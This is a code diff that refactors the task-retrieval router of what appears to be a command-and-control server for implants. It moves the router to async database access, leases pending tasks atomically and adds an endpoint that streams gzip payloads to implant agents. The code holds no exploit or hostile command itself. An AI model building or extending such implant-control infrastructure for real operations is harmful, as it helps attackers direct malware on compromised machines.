@@ -1,32 +1,39 @@
+from functools import partial
 from typing import List
 
 from fastapi import APIRouter, HTTPException, Depends
+from fastapi.responses import FileResponse
+from sqlalchemy import select
 
-from server.server_helper.db import get_db, SessionLocal
-from server.server_helper.implant_helper import Implant
-from server.server_helper.tasking_helper import Tasking, TaskingRead
+from server.server_helper.blob_helper import blobs
+from server.server_helper.db import get_async_db, AsyncSessionLocal
+from server.server_helper.events_helper import events, TASK_PICKED_UP
+from server.server_helper.registry_helper import registry
+from server.server_helper.tasking_helper import Tasking, TaskingRead, claim_tasks
+from server.server_helper.writer_helper import writer
 
 router = APIRouter(prefix="/tasks", tags=["tasks"])
 
 # endpoint for agent to retrieve tasks, mark them as pending after agent picks them up
 @router.get("/{session}", response_model=List[TaskingRead])
-def get_tasks(session: str, db: SessionLocal = Depends(get_db)):  # type: ignore
-    db_implant = db.query(Implant).filter(Implant.session == session).first()
-    if db_implant is None:
+async def get_tasks(session: str, db: AsyncSessionLocal = Depends(get_async_db)):  # type: ignore
+    if await registry.lookup(session, db) is None:
         raise HTTPException(status_code=404, detail="Session not found")
 
-    tasking = (
-        db.query(Tasking)
-        .filter(Tasking.session == session, Tasking.complete.in_(["False", "Pending"]))
-        .all()
-    )
+    # fetch and lease (Pending, implant picked it up for action) in one statement
+    tasking = await writer.submit(partial(claim_tasks, session))
+    # also on an empty claim, a stale lease_due would otherwise keep redirecting the legacy check in here
+    registry.claimed(session, tasking)
     if not tasking:
         raise HTTPException(status_code=404, detail="No tasks found for this session")
-    # Mark tasks as pending
-    for task in tasking:
-        # implant picked it up for action
-        task.complete = "Pending"
-        db.commit()
-        db.refresh(task)
+    events.publish(TASK_PICKED_UP, session=session, tasking_ids=[task.id for task in tasking])
+    return tasking
 
-    return tasking
\ No newline at end of file
+
+# endpoint for agent to stream the payload of an upload task kept in the blob store (gzip)
+@router.get("/{session}/{id}/payload")
+async def get_task_payload(session: str, id: int, db: AsyncSessionLocal = Depends(get_async_db)):  # type: ignore
+    blob_ref = await db.scalar(select(Tasking.blob_ref).where(Tasking.session == session, Tasking.id == id))
+    if blob_ref is None or not blobs.exists(blob_ref):
+        raise HTTPException(status_code=404, detail="Payload not found")
+    return FileResponse(blobs.path(blob_ref), media_type="application/gzip")